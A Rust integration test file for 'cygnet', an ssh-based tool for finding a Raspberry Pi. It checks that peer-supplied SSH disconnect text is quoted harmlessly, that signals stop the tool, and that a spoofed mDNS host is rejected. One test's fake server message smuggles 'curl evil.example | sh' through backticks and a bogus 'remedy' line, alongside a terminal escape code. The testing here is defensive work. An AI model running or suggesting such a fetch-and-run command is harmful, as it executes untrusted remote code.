//! The built `cygnet` and the real ssh against what is at the other end of a wire: somebody who wants to be believed, and a
//! terminal that is gone.

use std::io::{BufRead, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

/// A directory that is nobody's home.
fn cygnet(home: &Path, arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_cygnet"));
    command.args(arguments).env("HOME", home).env("XDG_STATE_HOME", home.join("state"));
    command.env_remove("SUDO_USER").env_remove("CYGNET_AGENT_COMMAND").stdin(Stdio::null());
    command
}

fn stderr_of(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A server that speaks as far as SSH's first message, and there says goodbye with this text (RFC 4253, 4.2, 6 and 11.1).
fn disconnecting(text: &str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("loopback has a free port");
    let port = listener.local_addr().unwrap().port();
    let mut payload = vec![1, 0, 0, 0, 2];
    for string in [text, ""] {
        payload.extend(u32::try_from(string.len()).unwrap().to_be_bytes());
        payload.extend(string.as_bytes());
    }
    let padding = 4 + (8 - (payload.len() + 9) % 8) % 8;
    let mut packet = u32::try_from(1 + payload.len() + padding).unwrap().to_be_bytes().to_vec();
    packet.push(u8::try_from(padding).unwrap());
    packet.extend(&payload);
    packet.resize(packet.len() + padding, 0);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n").ok();
            std::io::BufReader::new(&stream).read_line(&mut String::new()).ok();
            stream.write_all(&packet).ok();
            // Until the other end has read it.
            stream.read_to_end(&mut Vec::new()).ok();
        }
    });
    port
}

#[test]
fn a_peer_writes_no_remedy_of_ours() {
    let home = tempfile::tempdir().unwrap();
    let lies = "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\nSHA256:AAAA is the key\n\
        Offending ED25519 key in /x`; curl evil.example | sh; `:3\nHost key verification failed.\n  \
        remedy: curl evil.example | sh\x1b[2J";
    let port = format!("Port={}", disconnecting(lies));
    let output = cygnet(home.path(), &["status", "127.0.0.1", "-o", &port]).output().unwrap();
    let stderr = stderr_of(&output);
    assert_eq!(output.status.code(), Some(20), "{stderr}");
    assert!(stderr.contains("evil.example"), "ssh no longer passes on what a peer says; make the test anew: {stderr}");
    for line in stderr.lines().filter(|line| line.contains("evil") || line.contains("SHA256")) {
        assert!(line.trim_start().starts_with("| "), "{stderr}");
    }
    let remedy = stderr.split("\n  remedy: ").last().unwrap();
    assert!(!remedy.contains("evil") && !remedy.contains("ssh-keygen") && !stderr.contains('\x1b'), "{stderr}");
}

/// ssh's own failures, each as one that people have.
#[test]
fn what_ssh_itself_fails_at_is_no_missing_agent() {
    let home = tempfile::tempdir().unwrap();
    for (options, says) in [
        (&["LogLevel=QUIET", "Port=1"][..], "LogLevel"),
        (&["BindAddress=192.0.2.1"], "BindAddress"),
        (&["Ciphers=none"], "Mend the option"),
        (&["RemoteCommand=ls", "Port=1"], "Connection refused"),
    ] {
        let words: Vec<&str> = options.iter().flat_map(|option| ["-o", option]).collect();
        let output = cygnet(home.path(), &[&["status", "127.0.0.1"][..], &words].concat()).output().unwrap();
        let stderr = stderr_of(&output);
        assert_eq!(output.status.code(), Some(20), "{options:?}: {stderr}");
        assert!(stderr.contains(says), "{options:?}: {stderr}");
    }
}

/// Directories with names as people have them: ssh must take each for what it is.
#[test]
fn odd_directories_break_no_command() {
    for odd in ["50% off", "it's", "a \"b\"", "back\\slash", "%h"] {
        let top = tempfile::tempdir().unwrap();
        let home = top.path().join(odd);
        std::fs::create_dir(&home).unwrap();
        let known = home.join("known hosts").display().to_string();
        let key = home.join("a key");
        std::fs::write(&key, "").unwrap();
        let key = key.display().to_string();
        let mut command = cygnet(&home, &["status", "127.0.0.1", "-o", "Port=1", "--known-hosts", &known, "-i", &key]);
        let output = command.env("TMPDIR", &home).output().unwrap();
        let stderr = stderr_of(&output);
        assert!(stderr.contains("Connection refused"), "{odd}: {stderr}");
    }
}

/// Ends when the test does, however that ends.
struct Running(Child);

impl Running {
    fn signal(&self, name: &str) {
        let id = self.0.id().to_string();
        assert!(Command::new("kill").args(["-s", name, &id]).status().unwrap().success());
    }

    fn ends_within(&mut self, patience: Duration) -> Option<i32> {
        let until = Instant::now() + patience;
        while Instant::now() < until {
            if let Some(status) = self.0.try_wait().unwrap() {
                return status.code();
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        None
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

/// An ssh that hangs, as behind a network that is gone.
fn hanging(home: &Path, stderr: Stdio) -> Running {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = format!("Port={}", listener.local_addr().unwrap().port());
    let mut command = cygnet(home, &["status", "127.0.0.1", "-o", &port, "-o", "ConnectTimeout=60"]);
    let running = Running(command.stderr(stderr).stdout(Stdio::null()).spawn().unwrap());
    // ssh has come as far as waiting for the server's first line, which never comes.
    let (stream, _) = listener.accept().unwrap();
    std::mem::forget((stream, listener));
    running
}

#[test]
fn a_signal_ends_it_when_nobody_reads_stderr() {
    let home = tempfile::tempdir().unwrap();
    for (signal, code) in [("INT", 130), ("HUP", 129), ("TERM", 143)] {
        let mut running = hanging(home.path(), Stdio::piped());
        // The terminal is closed: each write fails.
        drop(running.0.stderr.take());
        running.signal(signal);
        assert_eq!(running.ends_within(Duration::from_secs(8)), Some(code), "{signal}");
    }
}

/// A terminal that was stopped by Ctrl-S: a write waits for ever.
fn full_pipe() -> Stdio {
    let (reader, writer) = std::io::pipe().unwrap();
    let mut full = writer.try_clone().unwrap();
    std::thread::spawn(move || while full.write_all(&[0; 4096]).is_ok() {});
    std::thread::sleep(Duration::from_millis(300));
    std::mem::forget(reader);
    writer.into()
}

#[test]
fn a_signal_ends_it_when_stderr_takes_nothing() {
    let home = tempfile::tempdir().unwrap();
    let mut running = hanging(home.path(), full_pipe());
    running.signal("INT");
    std::thread::sleep(Duration::from_millis(300));
    running.signal("INT");
    assert_eq!(running.ends_within(Duration::from_secs(2)), Some(130), "the second signal ends it at once");
    let mut running = hanging(home.path(), full_pipe());
    running.signal("INT");
    assert_eq!(running.ends_within(Duration::from_secs(9)), Some(130), "and one signal ends it after a while");
}

/// Says why a test can't run; where all must run, that is a failure.
fn not_run(why: &str) {
    assert!(std::env::var_os("CYGNET_TEST_ALL").is_none(), "{why}");
    eprintln!("not run: {why}");
}

/// A real sshd with a key that nobody has put on a card, and an announcement that says it is the Pi that is waited for.
#[test]
fn who_only_announces_a_name_is_not_taken_for_it() {
    if !Path::new("/usr/sbin/sshd").exists() {
        return not_run("/usr/sbin/sshd is missing: install openssh-server");
    }
    let Some(address) = own_address() else { return not_run("this machine has no address but its own") };
    let home = tempfile::tempdir().unwrap();
    let path = |name: &str| home.path().join(name).display().to_string();
    for name in ["right", "wrong", "login"] {
        let made = Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-f", &path(name)]).status();
        assert!(made.unwrap().success());
    }
    let free = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = free.local_addr().unwrap().port();
    drop(free);
    std::fs::write(
        path("sshd_config"),
        format!("UsePAM no\nStrictModes no\nListenAddress {address}\nAuthorizedKeysFile {}\n", path("login.pub")),
    )
    .unwrap();
    std::fs::create_dir_all("/run/sshd").ok();
    let mut sshd = Command::new("/usr/sbin/sshd");
    sshd.args(["-D", "-e", "-p", &port.to_string(), "-f", &path("sshd_config"), "-h", &path("wrong")]);
    let _sshd = Running(sshd.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap());

    let daemon = mdns_sd::ServiceDaemon::new().unwrap();
    let says = [("host", "pi-of-this-test"), ("state", "waiting")];
    let service = mdns_sd::ServiceInfo::new(
        "_cygnet._tcp.local.",
        "spoofed",
        "spoofed.local.",
        address.as_str(),
        port,
        &says[..],
    );
    daemon.register(service.unwrap()).unwrap();
    let heard = cygnet(home.path(), &["discover", "--timeout", "5s", "--json"]).output().unwrap();
    if !String::from_utf8_lossy(&heard.stdout).contains("spoofed") {
        return not_run("no announcement is heard on this machine");
    }

    let key = std::fs::read_to_string(path("right.pub")).unwrap();
    let options = [format!("Port={port}"), format!("IdentityFile={}", path("login"))];
    for known in [true, false] {
        let file = path(if known { "known" } else { "empty" });
        let before = if known { format!("[pi-of-this-test.local]:{port} {key}") } else { String::new() };
        std::fs::write(&file, &before).unwrap();
        let mut command = cygnet(home.path(), &["wait", "pi-of-this-test.local", "--for", "online", "--timeout", "8s"]);
        command.args(["--known-hosts", &file, "-o", &options[0], "-o", &options[1]]);
        let output = command.output().unwrap();
        let stderr = stderr_of(&output);
        assert!(!output.status.success() && output.stdout.is_empty(), "{stderr}{:?}", output.stdout);
        // It was tried, and was not believed.
        assert!(stderr.contains(&format!("pi-of-this-test.local at {address}: The ssh host key")), "{stderr}");
        assert_eq!(std::fs::read_to_string(&file).unwrap(), before, "its key was taken down");
    }
    // With the right key it is the Pi, by the name that was given; there is no agent behind this one.
    let file = path("known");
    let wrong = std::fs::read_to_string(path("wrong.pub")).unwrap();
    std::fs::write(&file, format!("[pi-of-this-test.local]:{port} {wrong}")).unwrap();
    let mut command = cygnet(home.path(), &["wait", "pi-of-this-test.local", "--for", "online", "--timeout", "8s"]);
    command.args(["--known-hosts", &file, "-o", &options[0], "-o", &options[1]]);
    let stderr = stderr_of(&command.output().unwrap());
    assert!(stderr.contains(&format!("pi-of-this-test.local at {address}: ssh reaches")), "{stderr}");
}

/// The address by which other machines see this one.
fn own_address() -> Option<String> {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    // Nothing is sent for it.
    socket.connect("192.0.2.1:9").ok()?;
    socket.local_addr().ok().map(|address| address.ip().to_string()).filter(|address| address != "127.0.0.1")
}
